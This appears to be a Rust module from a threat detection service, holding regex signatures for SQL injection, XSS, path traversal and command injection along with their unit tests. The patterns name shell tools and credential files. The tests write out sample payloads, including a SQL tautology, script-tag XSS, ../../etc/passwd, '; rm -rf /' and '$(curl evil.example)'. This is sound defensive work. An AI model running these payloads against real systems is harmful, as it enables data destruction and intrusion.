//! Injection-signature catalog for the threat detection service.
//!
//! Rules are grouped regular-expression sets per threat kind, compiled once
//! and shared for the lifetime of the process. Matching returns every rule
//! that fired so callers can emit one finding per distinct signal.

use crate::core::ThreatKind;
use once_cell::sync::Lazy;
use regex::Regex;

/// One compiled detection rule
pub struct PatternRule {
    /// Short rule name used as a finding indicator
    pub name: &'static str,
    /// Threat kind implied by a match
    pub kind: ThreatKind,
    regex: Regex,
}

/// Immutable set of compiled detection rules
pub struct PatternCatalog {
    rules: Vec<PatternRule>,
}

static CATALOG: Lazy<PatternCatalog> = Lazy::new(PatternCatalog::compile);

impl PatternCatalog {
    /// The process-wide compiled catalog
    pub fn shared() -> &'static PatternCatalog {
        &CATALOG
    }

    fn compile() -> Self {
        let specs: &[(&str, ThreatKind, &str)] = &[
            // SQL injection: keyword sequences, quote/tautology, trailing comment
            (
                "sql-keywords",
                ThreatKind::SqlInjection,
                r"(?i)\b(union\s+(all\s+)?select|insert\s+into|drop\s+table|delete\s+from|information_schema|xp_cmdshell)\b",
            ),
            (
                "sql-tautology",
                ThreatKind::SqlInjection,
                r#"(?i)('|%27)\s*(or|and)\s+'?\d+'?\s*=\s*'?\d+"#,
            ),
            (
                "sql-comment",
                ThreatKind::SqlInjection,
                r"(?i)'\s*(--|#)|--\s*$",
            ),
            (
                "sql-timing",
                ThreatKind::SqlInjection,
                r"(?i)\b(sleep|benchmark|pg_sleep)\s*\(",
            ),
            // Script/HTML injection
            ("script-tag", ThreatKind::Xss, r"(?i)<\s*script"),
            ("js-scheme", ThreatKind::Xss, r"(?i)javascript\s*:"),
            (
                "event-handler",
                ThreatKind::Xss,
                r"(?i)\bon(error|load|click|mouseover|focus|submit)\s*=",
            ),
            ("iframe-tag", ThreatKind::Xss, r"(?i)<\s*iframe"),
            // Path traversal, raw and percent-encoded
            (
                "dot-dot-slash",
                ThreatKind::PathTraversal,
                r"\.\./|\.\.\\",
            ),
            (
                "encoded-traversal",
                ThreatKind::PathTraversal,
                r"(?i)%2e%2e(%2f|%5c|/)",
            ),
            (
                "sensitive-path",
                ThreatKind::PathTraversal,
                r"(?i)/etc/(passwd|shadow|hosts)|boot\.ini|win\.ini|windows/system32",
            ),
            // Command injection: metachar followed by a well-known binary,
            // substitution, or chained execution
            (
                "shell-binary",
                ThreatKind::CommandInjection,
                r"(?i)[;&|`]\s*(rm|cat|nc|netcat|wget|curl|bash|sh|zsh|powershell|cmd|chmod|chown)\b",
            ),
            (
                "command-substitution",
                ThreatKind::CommandInjection,
                r"\$\([^)]*\)|`[^`]+`",
            ),
            (
                "pipe-chain",
                ThreatKind::CommandInjection,
                r"(?i)(\|\||&&)\s*(rm|curl|wget|nc|bash|sh)\b",
            ),
        ];

        let rules = specs
            .iter()
            .map(|(name, kind, pattern)| PatternRule {
                name,
                kind: *kind,
                // Patterns are static and covered by tests; a failure here is
                // a programming error caught at first use.
                regex: Regex::new(pattern).unwrap_or_else(|e| {
                    panic!("invalid built-in pattern `{}`: {}", name, e)
                }),
            })
            .collect();

        Self { rules }
    }

    /// Run the whole catalog against `text`, returning every rule that fired
    pub fn match_text(&self, text: &str) -> Vec<&PatternRule> {
        self.rules
            .iter()
            .filter(|rule| rule.regex.is_match(text))
            .collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn kinds_for(text: &str) -> Vec<ThreatKind> {
        PatternCatalog::shared()
            .match_text(text)
            .into_iter()
            .map(|r| r.kind)
            .collect()
    }

    #[test]
    fn canonical_attack_corpus_matches() {
        assert!(kinds_for("' OR 1=1--").contains(&ThreatKind::SqlInjection));
        assert!(kinds_for("/search?q=' UNION SELECT * FROM users--")
            .contains(&ThreatKind::SqlInjection));
        assert!(kinds_for("<script>alert(1)</script>").contains(&ThreatKind::Xss));
        assert!(kinds_for("javascript:alert(1)").contains(&ThreatKind::Xss));
        assert!(kinds_for("<img src=x onerror=alert(1)>").contains(&ThreatKind::Xss));
        assert!(kinds_for("../../etc/passwd").contains(&ThreatKind::PathTraversal));
        assert!(kinds_for("%2e%2e%2f%2e%2e%2fetc").contains(&ThreatKind::PathTraversal));
        assert!(kinds_for("; rm -rf /").contains(&ThreatKind::CommandInjection));
        assert!(kinds_for("$(curl evil.example)").contains(&ThreatKind::CommandInjection));
    }

    #[test]
    fn benign_corpus_stays_silent() {
        let benign = [
            "/search?q=how to cook pasta",
            "/api/users?id=42&page=2",
            "/docs/getting-started",
            r#"{"title":"hello & welcome","tags":["rust","web"]}"#,
            "/search?q=select a song for the party",
            "/blog/2024/01/on-writing-well",
        ];
        for text in benign {
            assert!(kinds_for(text).is_empty(), "false positive on {}", text);
        }
    }

    #[test]
    fn distinct_signals_fire_distinct_rules() {
        let hits = PatternCatalog::shared()
            .match_text("/x?a=<script>alert(1)</script>&b=../../etc/passwd");
        let names: Vec<_> = hits.iter().map(|r| r.name).collect();
        assert!(names.contains(&"script-tag"));
        assert!(names.contains(&"dot-dot-slash"));
        assert!(names.contains(&"sensitive-path"));
    }
}
